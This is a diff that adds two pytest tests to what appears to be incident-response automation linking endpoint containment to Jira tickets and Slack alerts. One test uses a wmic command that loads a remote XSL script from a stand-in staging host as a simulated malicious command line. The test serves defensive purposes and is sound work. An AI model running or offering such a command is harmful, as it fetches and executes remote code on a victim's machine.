@@ -295,3 +295,37 @@ def test_ticket_when_the_search_does_not_find_it_then_no_second_one_is_opened(
             one for one in world.slack.messages() if "was deleted, or may no longer" in str(one)
         ]
         assert len(told) == is_deleted
+
+
+def test_ticket_when_another_machine_is_still_asked_about_then_it_does_not_say_contained(
+    world: World,
+) -> None:
+    line = 'wmic os get /format:"https://stager.example.test/one.xsl"'
+    world.falcon.add_device(HOST, hostname="WORKSTATION9")
+    world.hit(cmdline=line)
+    world.hit(host="WORKSTATION9", cmdline=line)
+    world.tick()
+    mine = next(one for one in world.questions() if one.items[0].device.hostname == HOST)
+    world.yes(mine)
+    world.ticks(3, every_s=30)
+    assert world.contains() == [HOST]
+    assert {issue["fields"]["status"]["name"] for issue in world.jira.all_issues()} == {"To Do"}
+
+
+def test_ticket_when_the_move_was_not_sent_and_the_case_is_elsewhere_then_it_never_is(
+    world: World,
+) -> None:
+    def down() -> None:
+        world.jira.misbehave(method="GET", path="*/issue/?????", status=500, body="{}", times=None)
+
+    world.before.append(("GET */transitions*", down))
+    isolated(world)
+    assert (status(world), moves(world)) == ("To Do", 0)
+    world.falcon.set_device(HOST, status="normal")
+    world.ticks(3, every_s=900)
+    row = world.isolation()
+    assert row is not None
+    assert row.drift is not None
+    world.jira.behave()
+    world.ticks(3, every_s=900)
+    assert (status(world), moves(world)) == ("To Do", 0)
